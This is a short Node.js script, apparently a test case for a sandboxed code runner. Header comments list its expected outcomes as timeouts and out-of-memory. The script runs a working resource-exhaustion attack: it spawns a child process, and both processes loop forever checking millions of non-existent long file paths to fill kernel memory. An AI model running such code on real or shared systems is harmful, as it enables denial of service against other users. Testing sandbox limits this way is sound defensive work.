// exploit: asks for millions of files that do not exist, each of which the kernel remembers
// part: no
// outcome: cpu-timeout wall-timeout out-of-memory
// wall: 2000
const fs = require('node:fs')
const { spawn } = require('node:child_process')
const asking = "const fs = require('node:fs'); for (let index = 0; ; index += 1) fs.existsSync(`/lib/${process.pid}-${index}-${'n'.repeat(200)}`)"
spawn(process.execPath, ['-e', asking], { stdio: 'ignore' })
for (let index = 0; ; index += 1) fs.existsSync(`/node_modules/${index}-${'n'.repeat(200)}`)
